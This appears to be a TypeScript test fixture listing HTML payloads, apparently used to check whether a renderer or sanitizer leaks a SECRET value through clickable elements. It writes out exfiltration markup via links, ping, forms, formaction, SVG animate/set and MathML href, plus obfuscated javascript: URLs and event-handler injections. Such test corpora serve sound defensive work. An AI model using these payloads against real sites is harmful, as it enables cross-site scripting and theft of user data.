import type { Payload } from '../payload.ts';
import { act, html, pressed } from './shownMarkup.ts';

/** What a person would press: links, forms, buttons. */
export const outputLinks: readonly Payload[] = [
	html('a', 'link', ({ http }) => `<a href="${http}?SECRET">Learn more</a>`, pressed('a, p, .html')),
	html(
		'a-blank',
		'link target',
		({ http }) => `<a href="${http}?SECRET" target="_blank">Open</a>`,
		pressed('a, .html')
	),
	html('a-ping', 'link ping', ({ http }) => `<a href="#x" ping="${http}?SECRET">Go</a>`, {
		...pressed('a, .html'),
		without: ['firefox']
	}),
	html(
		'a-download',
		'link download',
		({ http }) => `<a href="${http}?SECRET" download="a.csv">Save</a>`,
		pressed('a, .html')
	),
	html('a-javascript', 'javascript:', (at) => `<a href="javascript:${act(at)}">x</a>`, pressed('a, .html')),
	html(
		'a-javascript-tab',
		'javascript:',
		(at) => `<a href=" java&#9;script&colon;${act(at)}">x</a>`,
		pressed('a, .html')
	),
	html(
		'area',
		'area',
		({ http }) =>
			`<img usemap="#m" width="99" height="99" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="><map name="m"><area shape="default" href="${http}?SECRET"></map>`,
		{
			...pressed('img, .html'),
			without: ['firefox']
		}
	),
	html(
		'form',
		'form',
		({ http }) => `<form action="${http}"><input name="s" value="SECRET"><button>OK</button></form>`,
		pressed('button, .html')
	),
	html(
		'formaction',
		'formaction',
		({ http }) => `<form><input name="s" value="SECRET"><button formaction="${http}">OK</button></form>`,
		pressed('button, .html')
	),
	html(
		'form-outside',
		'form',
		({ http }) =>
			`<form id="f" action="${http}"></form><input form="f" name="s" value="SECRET"><button form="f">OK</button>`,
		pressed('button, .html')
	),
	html(
		'popover',
		'popovertarget',
		(at) => `<button popovertarget="p">x</button><p id="p" popover ontoggle="${act(at)}">x</p>`,
		pressed('button, .html')
	),
	html(
		'accesskey',
		'event attribute',
		(at) => `<button accesskey="x" onclick="${act(at)}">x</button>`,
		pressed('button, .html')
	),
	html(
		'svg-a',
		'SVG a',
		({ http }) =>
			`<svg width="99" height="99"><a href="${http}?SECRET"><rect width="99" height="99"/></a></svg>`,
		pressed('rect, .html')
	),
	html(
		'svg-a-xlink',
		'xlink:href',
		({ http }) =>
			`<svg width="99" height="99"><a xlink:href="${http}?SECRET"><rect width="99" height="99"/></a></svg>`,
		pressed('rect, .html')
	),
	html(
		'svg-animated-href',
		'SVG animate',
		({ http }) =>
			`<svg width="99" height="99"><a><animate attributeName="href" values="${http}?SECRET" dur="9s" fill="freeze"/><rect width="99" height="99"/></a></svg>`,
		pressed('rect, .html')
	),
	html(
		'svg-set-href',
		'SVG set',
		({ http }) =>
			`<svg width="99" height="99"><a><set attributeName="href" to="${http}?SECRET"/><rect width="99" height="99"/></a></svg>`,
		pressed('rect, .html')
	),
	html(
		'math-href',
		'MathML link',
		({ http }) => `<math><mtext href="${http}?SECRET" style="padding: 30px">x</mtext></math>`,
		{ ...pressed('mtext, .html'), without: ['chromium'] }
	)
];
